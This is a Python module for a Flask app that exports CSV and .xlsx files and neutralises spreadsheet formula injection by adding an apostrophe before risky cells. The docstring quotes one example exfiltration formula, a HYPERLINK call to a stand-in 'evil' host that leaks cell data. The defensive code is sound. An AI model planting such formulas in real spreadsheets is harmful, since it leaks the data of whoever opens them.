"""Exports people open in a spreadsheet (CSV, .xlsx): safe against formula injection.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is run as a formula by Excel, WPS and LibreOffice:
``=HYPERLINK("http://evil/?"&A1)`` leaks the sheet. Every exported cell goes through
``spreadsheet_safe``, which puts an apostrophe in front — the spreadsheet convention for
"this is text" — so the value shows as typed and nothing runs. Importers undo it with
``unescape_spreadsheet`` so that an export re-imported does not grow apostrophes.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from urllib.parse import quote

from flask import Response

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def spreadsheet_safe(value) -> str:
    """The cell's text, neutralised when a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def unescape_spreadsheet(value: str) -> str:
    """Undo ``spreadsheet_safe`` on import: only an apostrophe that guards a formula prefix."""
    if value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def csv_text(header: Iterable, rows: Iterable[Iterable]) -> str:
    """CSV with a BOM (so Excel reads the Chinese right) and CRLF lines; every cell made safe."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_safe(h) for h in header])
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return out.getvalue()


def _download_headers(filename: str, fallback: str) -> dict:
    """A download that is never cached; ``filename`` may be Chinese (RFC 5987 ``filename*``)."""
    ascii_name = filename.encode("ascii", "ignore").decode() or fallback
    disposition = f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename)}"
    return {"Content-Disposition": disposition, "Cache-Control": "private, no-store"}


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> Response:
    """A CSV download."""
    return Response(csv_text(header, rows), mimetype="text/csv", headers=_download_headers(filename, "export.csv"))


def xlsx_bytes(sheet_name: str, header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """An .xlsx of one sheet, written row by row (openpyxl's write-only mode); every cell made safe."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name[:31])
    sheet.append([spreadsheet_safe(str(cell)) for cell in header])
    for row in rows:
        sheet.append([spreadsheet_safe(cell) for cell in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> Response:
    """An .xlsx download of one sheet."""
    return Response(
        xlsx_bytes(filename.rsplit(".", 1)[0], header, rows),
        mimetype="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        headers=_download_headers(filename, "export.xlsx"),
    )
